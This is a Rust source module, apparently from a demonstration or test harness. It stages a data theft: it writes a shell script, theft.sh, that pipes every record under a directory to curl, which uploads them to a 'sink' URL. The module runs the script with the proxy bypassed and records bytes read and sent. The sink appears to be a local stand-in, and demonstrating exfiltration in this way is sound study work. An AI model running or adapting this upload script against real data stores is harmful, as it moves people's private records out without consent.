//! The demonstration's theft: a shell script lists the store and has one curl read and upload every record.
//!
//! **Invariant:** nothing but curl opens a record, so what it must have read is the sum of the sizes.

use std::net::SocketAddr;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::{Context as _, Result, bail};

use super::sink::Sink;

/// What the thief does. The list of files goes to curl through a pipe, as names of files only: the shell's patterns
/// read directories, not records.
const SCRIPT: &str = r#"#!/bin/sh
# Uploads every record below the directory $1 to the URL $2.
set -eu
cd "$1"
for record in */*/*; do
    printf 'form = "record=@%s"\n' "$record"
done | curl --silent --show-error --fail --max-time 60 --output /dev/null --config - "$2"
"#;

/// What was really moved, from those who moved it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Moved {
    /// Name of the store.
    pub(crate) store: String,
    /// Files uploaded, each once.
    pub(crate) records: u64,
    /// Sum of their sizes.
    pub(crate) bytes_read: u64,
    /// What the sink took from its socket.
    pub(crate) bytes_sent: u64,
    /// Where they went.
    pub(crate) destination: SocketAddr,
    /// The script, which is an argument of the shell.
    pub(crate) script: PathBuf,
    /// An argument of curl.
    pub(crate) url: String,
}

/// Uploads all records below `root` to the sink.
///
/// # Errors
/// The script failed, or the sink saw no connection.
pub(crate) fn commit(
    store: &str,
    root: &Path,
    sizes: &[u64],
    sink: &Sink,
    directory: &Path,
) -> Result<Moved> {
    let script = directory.join("theft.sh");
    std::fs::write(&script, SCRIPT)
        .with_context(|| format!("failed to write {}", script.display()))?;
    let url = format!("http://{}/upload", sink.address);
    let output = Command::new("sh")
        .arg(&script)
        .arg(root)
        .arg(&url)
        // A proxy of the environment must not come between.
        .env("no_proxy", "*")
        .stdin(Stdio::null())
        // The theft is no part of our job at the terminal.
        .process_group(0)
        .output()
        .context("failed to run the theft")?;
    if !output.status.success() {
        bail!(
            "the theft failed with {}: {}",
            output.status,
            String::from_utf8_lossy(&output.stderr).trim()
        );
    }
    Ok(Moved {
        store: store.to_owned(),
        records: sizes.len() as u64,
        bytes_read: sizes.iter().sum(),
        bytes_sent: sink.received()?.bytes,
        destination: sink.address,
        script,
        url,
    })
}
